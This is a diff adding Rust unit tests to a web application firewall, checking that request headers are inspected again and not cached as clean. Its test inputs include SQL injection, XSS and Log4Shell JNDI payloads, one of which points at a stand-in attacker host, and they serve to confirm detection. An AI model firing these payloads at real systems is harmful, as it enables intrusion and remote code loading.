@@ -965,3 +965,149 @@ fn crs_xss_rules_skip_plain_paths_but_read_others() {
         vec![(RuleId::Xss, "path", Some(941180))]
     );
 }
+
+fn at(waf: &Waf, path: &str, headers: &[(&str, &[u8])]) -> Vec<(RuleId, String)> {
+    waf.inspect(&RequestView {
+        method: "GET",
+        path,
+        query: None,
+        headers,
+        content_type: None,
+        body: b"",
+    })
+    .into_iter()
+    .map(|f| (f.rule, f.field))
+    .collect()
+}
+
+const BROWSER: [(&str, &[u8]); 4] = [
+    ("host", b"shop.example"),
+    (
+        "user-agent",
+        b"Mozilla/5.0 (X11; Linux x86_64) header-set memo",
+    ),
+    ("accept", b"text/html,application/xhtml+xml"),
+    ("cookie", b"session=abc123; theme=dark"),
+];
+
+#[test]
+fn a_clean_header_set_stays_clean_and_any_change_is_inspected() {
+    let w = waf();
+    assert_eq!(at(&w, "/", &BROWSER), vec![]);
+    assert_eq!(at(&w, "/", &BROWSER), vec![]);
+    // One value changed, one header added, a value moved to another name: each a new set.
+    let mut changed = BROWSER;
+    changed[3] = ("cookie", b"session=1' or '1'='1; theme=dark");
+    assert_eq!(
+        at(&w, "/", &changed),
+        vec![(RuleId::Sqli, "cookie:session".to_owned())]
+    );
+    let mut added = BROWSER.to_vec();
+    added.push(("referer", b"<script>alert(1)</script>"));
+    assert_eq!(
+        at(&w, "/", &added),
+        vec![(RuleId::Xss, "header:referer".to_owned())]
+    );
+    // Names and values run together, a clean set and an attack would be the same bytes.
+    let clean: [(&str, &[u8]); 2] = [("x-a", b"1x-b$"), ("{jndi:ldap:", b"//e/x}")];
+    let attack: [(&str, &[u8]); 2] = [("x-a", b"1"), ("x-b", b"${jndi:ldap://e/x}")];
+    assert_eq!(at(&w, "/", &clean), vec![]);
+    assert_eq!(
+        at(&w, "/", &attack),
+        vec![(RuleId::Log4shell, "header:x-b".to_owned())]
+    );
+    assert_eq!(at(&w, "/", &BROWSER), vec![]);
+}
+
+#[test]
+fn per_request_headers_are_inspected_even_when_the_set_is_known() {
+    let w = waf();
+    let mut headers = BROWSER.to_vec();
+    headers.push(("x-request-id", b"req-1"));
+    assert_eq!(at(&w, "/", &headers), vec![]);
+    headers[4] = ("x-request-id", b"${jndi:ldap://evil.example/a}");
+    assert_eq!(
+        at(&w, "/", &headers),
+        vec![(RuleId::Log4shell, "header:x-request-id".to_owned())]
+    );
+}
+
+#[test]
+fn a_header_set_one_waf_found_clean_is_inspected_again_by_another() {
+    // The same headers, first through a WAF without XSS, then through one with it.
+    let headers: [(&str, &[u8]); 2] = [
+        ("host", b"shop.example"),
+        ("referer", b"<svg onload=alert(1)>"),
+    ];
+    let no_xss = match Waf::new(WafConfig {
+        xss: false,
+        ..WafConfig::default()
+    }) {
+        Ok(w) => w,
+        Err(e) => panic!("{e}"),
+    };
+    assert_eq!(at(&no_xss, "/", &headers), vec![]);
+    assert_eq!(at(&no_xss, "/", &headers), vec![]);
+    assert_eq!(
+        at(&waf(), "/", &headers),
+        vec![(RuleId::Xss, "header:referer".to_owned())]
+    );
+}
+
+#[test]
+fn headers_clean_under_an_exclusion_are_not_remembered_as_clean() {
+    let w = match Waf::new(WafConfig {
+        exclusions: vec![Exclusion {
+            path_prefix: "/cms/".to_owned(),
+            rules: vec![RuleId::Xss],
+            fields: vec!["header:referer".to_owned()],
+        }],
+        ..WafConfig::default()
+    }) {
+        Ok(w) => w,
+        Err(e) => panic!("{e}"),
+    };
+    let headers: [(&str, &[u8]); 2] = [
+        ("host", b"shop.example"),
+        ("referer", b"<script>alert(1)</script>"),
+    ];
+    assert_eq!(at(&w, "/cms/page", &headers), vec![]);
+    assert_eq!(at(&w, "/cms/page", &headers), vec![]);
+    assert_eq!(
+        at(&w, "/shop", &headers),
+        vec![(RuleId::Xss, "header:referer".to_owned())]
+    );
+}
+
+#[test]
+fn per_request_header_names_are_recognised_by_length_and_name() {
+    for name in [
+        "x-request-id",
+        "x-correlation-id",
+        "x-signature",
+        "x-timestamp",
+        "traceparent",
+        "tracestate",
+        "baggage",
+        "sentry-trace",
+        "x-amzn-trace-id",
+        "x-b3-traceid",
+        "x-b3-spanid",
+        "x-b3-parentspanid",
+        "content-length",
+        "date",
+    ] {
+        assert!(per_request(name), "{name}");
+        assert!(per_request(&name.to_ascii_uppercase()), "{name}");
+    }
+    for name in [
+        "host",
+        "user-agent",
+        "accept",
+        "cookie",
+        "x-api-key",
+        "x-requestid",
+    ] {
+        assert!(!per_request(name), "{name}");
+    }
+}
